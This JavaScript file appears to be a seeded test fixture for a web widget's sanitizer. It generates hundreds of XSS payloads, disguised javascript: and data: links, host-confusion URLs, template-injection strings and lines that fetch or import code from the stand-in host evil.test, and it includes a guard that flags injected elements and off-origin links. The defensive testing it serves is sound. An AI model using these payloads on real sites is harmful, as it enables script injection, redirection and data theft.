//! What people try to smuggle: links, and strings that would be scripts if anybody read them as markup. Of our own making
//! and seeded, so that a failure can be run again.

const hex = (letter) => letter.charCodeAt(0).toString(16);
const BODIES = { javascript: "__ran(1)", vbscript: "msgbox(1)", data: "text/html,<script>__ran(1)</script>" };
const SCHEMES = [
  "javascript", "vbscript", "data", "blob", "filesystem", "file", "about", "view-source", "intent", "ws", "wss", "ftp", "chrome",
  "resource", "jar", "mhtml", "livescript", "mocha", "feed", "ms-its", "steam", "sms", "callto", "market", "itms", "urn", "cid",
];
const link = (scheme) => `${scheme}:${BODIES[scheme] ?? "//evil.test/x"}`;
const mixed = (text) => [...text].map((letter, i) => (i % 2 ? letter.toUpperCase() : letter)).join("");

/** What a scheme is disguised with: browsers drop it, and so must we. */
const DISGUISES = [
  (text) => text, mixed, (text) => text.toUpperCase(),
  (text) => ` ${text}`, (text) => `\t${text}`, (text) => `\n\r${text}`, (text) => `\u0001${text}`, (text) => `\u001f \u0000${text}`.replace("\0", ""),
  (text) => `${text.slice(0, 1)}\t${text.slice(1)}`, (text) => `${text.slice(0, 3)}\n${text.slice(3)}`, (text) => `${text.slice(0, 2)}\r\n\t${text.slice(2)}`,
  (text) => text.replace(":", "\t:"), (text) => text.replace(":", "\n:"), (text) => text.replace(":", ":\t"),
];

/** Addresses of other hosts, however they are dressed. */
const FAR = [
  "https://evil.test", "http://evil.test/", "HTTPS://EVIL.TEST/x", "//evil.test", "//evil.test/x", "///evil.test/x", "////evil.test", "/\\evil.test", "\\\\evil.test/x", "\\/evil.test",
  "/\t/evil.test", "/\n/evil.test/x", "\t//evil.test", " //evil.test", "https:evil.test", "http:/\\evil.test", "https:\\\\evil.test", "https:///evil.test", "https:////evil.test/",
  "https://HOST@evil.test", "https://HOST:PORT@evil.test/", "https://HOST%40evil.test", "https://HOST.evil.test", "https://evil.test#HOST", "https://evil.test?HOST", "https://evil.test/HOST",
  "https://evil.test\\@HOST", "https://evil.test:443\\HOST", "https://user:HOST@evil.test", "//HOST@evil.test", "//HOST:80@evil.test/", "/\\HOST@evil.test",
  "https://\u0435vil.test", "https://evil\u3002test", "https://evil\uff0etest", "https://\u24d4vil.test", "https://ev\u00adil.test", "https://xn--vil-rdd.test", "//\uff45vil.test", "https://e\u0301vil.test",
  "https://HOS\u0422", "https://ho\u200dst.evil.test", "http://0x7f.1/", "http://2130706433", "http://017700000001/", "http://[::1]/", "http://[::ffff:127.0.0.1]/", "http://127.1:1/", "https://1.1.1.1",
  "https://evil.test:8443/", "http://HOST:1/", "http://HOST:65535", "https://HOST.:PORT/", "https://evil.test./", "https://%65vil.test", "https://evil%2etest", "https://evil.test%00.HOST",
  "https://evil.test%2f@HOST%2f.evil.test", "https:\t//evil.test", "ht\ntps://evil.test", "h\tt\tt\tp\ts://evil.test", "https://e\tvil.test", "https://evil\n.test/", "\u0001https://evil.test",
];

/** What leads to the page's own host, though it looks like something else. */
const NEAR = [
  "/", "/x", "x", "x/y", "?a=javascript:x", "#javascript:x", "./javascript:x", "/javascript:x", "/data:text/html,x", "&#106;avascript:x".replace(":", "%3A"), "javascript%3A__ran(1)", "java%0ascript%3Ax",
  "&Tab;javascript&colon;x", "&#x6a;avascript&#58;x", "%6aavascript%3ax", "\uff4aavascript\uff1ax", "javascript\uff1ax", "javascript\u2236x", "javascript\ua789x", "/x?u=//evil.test", "/x#//evil.test", "/x/..//evil.test",
  "/./\u2215\u2215evil.test", "\u2215\u2215evil.test", "\uff0f\uff0fevil.test", "%2f%2fevil.test", "/%2f/evil.test", "/%5cevil.test", "evil.test", "www.evil.test/x", "/evil.test", "?//evil.test", "<script>", "\"onclick=x", "'onclick=x",
  "x y", "/\u202egpj.exe", "/\u200bx", "..", "../..", "/%00", "/%", "/<img src=x onerror=__ran(1)>", "/\"><script>__ran(1)</script>",
];

const MAIL = ["mailto:a@shop.test", "MAILTO:a@shop.test", "mailto:", "mailto:javascript:x", "tel:+49301234", "TEL:110", "tel:javascript:x", "mail\tto:a@b.test"];

/**
 * At least 300 links with what must become of them: `none` (no link at all), `near` (a link to the page's own host) or
 * `mail`; `is` says whether the decoder must refuse it already.
 */
export function links(host) {
  const [name, port] = host.split(":");
  const dressed = (text) => text.replaceAll("HOST", name).replaceAll("PORT", port);
  const bad = SCHEMES.flatMap((scheme, i) => (i < 3 ? DISGUISES : DISGUISES.filter((_, j) => (i + j) % 2 === 0)).map((disguise) => disguise(link(scheme))));
  return [
    ...bad.map((text) => ({ text, becomes: "none", isRefused: true })),
    ...FAR.map((text) => ({ text: dressed(text), becomes: "none", isRefused: false })),
    ...NEAR.map((text) => ({ text, becomes: "near", isRefused: false })),
    ...MAIL.map((text) => ({ text, becomes: "mail", isRefused: false })),
  ];
}

/** Numbers from a seed. */
function dice(seed) {
  let state = seed >>> 0 || 1;
  return (most) => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) % most;
  };
}

const TAGS = ["script", "img", "svg", "iframe", "object", "embed", "a", "form", "input", "body", "style", "link", "meta", "base", "math", "video", "audio", "details", "template", "marquee", "opportune-widget", "bdi", "isindex", "portal"];
const EVENTS = ["onerror", "onload", "onclick", "onfocus autofocus tabindex=0", "onmouseover", "ontoggle open", "onbegin", "onanimationstart", "onpointerrawupdate", "onbeforetoggle popover"];
const CODES = ["__ran(1)", "top.__ran(1)", "import('//evil.test/x.js')", "fetch('//evil.test')", "new Image().src='//evil.test'", "eval('__ran(1)')", "document.write('<script src=//evil.test></script>')", "setTimeout`__ran\\x281\\x29`"];
const BREAKS = ["", "\"", "'", "`", "\">", "'>", "-->", "]]>", "</title>", "</style>", "</textarea>", "</p></div>", "</opportune-widget>", "</script>", "\u0000", "\u2028", "\ufeff", "\\", "\\u003c", "%3C", "&lt;", "<!--", "<![CDATA["];
const SHELLS = [
  (tag, event, code) => `<${tag} src=x ${event}=${code}>`, (tag, event, code) => `<${tag} ${event}="${code}">x</${tag}>`, (tag, _, code) => `<${tag}>${code}</${tag}>`,
  (tag, event, code) => `<${tag}/${event}=${code}//`, (tag, event, code) => `<${tag}\n${event}\n=\n'${code}'\n>`, (tag, _, code) => `<${tag} href="javascript:${code}">x</${tag}>`,
  (tag, _, code) => `<${tag} srcdoc="<script>${code}</script>">`, (tag, event, code) => `<${mixed(tag)} ${mixed(event)}=${code}>`, (tag, _, code) => `<${tag} style="background:url(//evil.test/${code.length})">`,
  (tag) => `<${tag} src=//evil.test/x.js>`, (tag) => `<${tag} data=//evil.test action=//evil.test formaction=//evil.test>`, (tag, _, code) => `<svg><${tag}><set attributeName=href to="javascript:${code}">`,
  (_, __, code) => `{{constructor.constructor('${code}')()}}`, (_, __, code) => `{{ __proto__ }}\${${code}}<%= ${code} %>#{${code}}`, (_, __, code) => `{{ v | default: '<script>${code}</script>' }}`, (_, __, code) => `javascript:${code}`,
  (_, __, code) => `data:text/html;base64,${btoa(`<script>${code}</script>`)}`, () => "expression(alert(1));background:url(//evil.test)", () => "@import '//evil.test';", () => "[object Object]", (tag, _, code) => `&lt;${tag}&gt;${code}&#x3c;/script&#62;`,
  (tag, event, code) => [...`<${tag} ${event}=${code}>`].map((letter) => `&#x${hex(letter)};`).join(""), (tag) => `\u202e<${tag}>\u2066\u202d`, (tag, _, code) => `\u003c${tag}\u003e${code}\u003c/${tag}\u003e`,
];

/** So many strings, no two alike. */
export function strings(count, seed = 1) {
  const roll = dice(seed);
  const pick = (list) => list[roll(list.length)];
  const all = new Set();
  for (let i = 0; all.size < count; i += 1) {
    const one = SHELLS[i % SHELLS.length](pick(TAGS), pick(EVENTS), pick(CODES));
    all.add(pick(BREAKS) + one + (roll(3) ? "" : pick(BREAKS) + pick(SHELLS)(pick(TAGS), pick(EVENTS), pick(CODES))));
  }
  return [...all];
}

/** In the page: counts scripts that run, and says what does not belong where it is. */
export function guard() {
  globalThis.ran = 0;
  globalThis.__ran = () => (globalThis.ran += 1);
  for (const name of ["alert", "confirm", "prompt"]) globalThis[name] = globalThis.__ran;
  const TREE = new Set("opportune-widget a bdi br button code dialog div em h2 i img input label legend fieldset li ol ul option p select small span strong textarea time form svg path circle".split(" "));
  const ATTRIBUTES = /^(class|id|type|role|rel|href|src|alt|width|height|loading|decoding|lang|dir|tabindex|popover|style|part|name|for|required|maxlength|autocomplete|inert|exportparts|open|novalidate|value|checked|selected|disabled|inputmode|enterkeyhint|min|max|rows|cols|datetime|aria-[a-z]+|data-[a-z-]+)$/;
  /** Elements of ours that are none of ours, attributes that could run, and links that lead elsewhere. */
  globalThis.strangers = () => {
    const found = [];
    for (const host of document.querySelectorAll("opportune-widget")) {
      if (host.firstChild) found.push("children of the host");
      for (const node of [host, ...(host.shadowRoot?.querySelectorAll("*") ?? [])]) {
        if (!TREE.has(node.localName)) found.push(node.localName);
        for (const { name, value } of node.attributes) {
          if (!ATTRIBUTES.test(name)) found.push(`${node.localName} ${name}`);
          if (name === "href" && !/^(https?|mailto|tel):$/.test(node.protocol)) found.push(`${node.localName} ${value}`);
          if (name === "href" && /^http/.test(node.protocol) && node.host !== location.host) found.push(`${node.localName} ${value}`);
          if (name === "src" && new URL(value, location.href).origin !== location.origin) found.push(`${node.localName} ${value}`);
          if (name === "style" && /url|expression/i.test(value)) found.push(`style ${value}`);
        }
      }
    }
    return found;
  };
}
